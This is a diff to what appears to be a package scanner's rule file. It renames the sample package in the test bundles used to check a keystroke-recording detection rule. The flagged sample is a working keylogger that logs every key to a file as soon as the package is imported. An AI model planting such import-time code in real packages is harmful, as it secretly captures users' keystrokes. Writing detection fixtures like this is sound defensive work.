@@ -33,15 +33,15 @@ extern constinit const Rule records_input = {
 #ifdef RULE_SAMPLES
 constexpr Sample samples[] = {
     {.name = "a module listens to the keyboard when imported",
-     .expect = "sample/__init__.py:4",
+     .expect = "widget/__init__.py:4",
      .bundle = R"(==> PKG-INFO
 Metadata-Version: 2.1
-Name: sample
+Name: widget
 Version: 1.0.0
 ==> setup.py
 from setuptools import setup
-setup(name="sample", version="1.0.0", packages=["sample"])
-==> sample/__init__.py
+setup(name="widget", version="1.0.0", packages=["widget"])
+==> widget/__init__.py
 from pynput import keyboard
 def on_press(key):
     open("keys.txt", "a").write(str(key))
@@ -50,12 +50,12 @@ listener.start()
 )"},
     {.name = "a library takes a picture when asked", .expect = silent, .bundle = R"(==> PKG-INFO
 Metadata-Version: 2.1
-Name: sample
+Name: widget
 Version: 1.0.0
 ==> setup.py
 from setuptools import setup
-setup(name="sample", version="1.0.0", packages=["sample"])
-==> sample/__init__.py
+setup(name="widget", version="1.0.0", packages=["widget"])
+==> widget/__init__.py
 from PIL import ImageGrab
 def shot():
     return ImageGrab.grab()
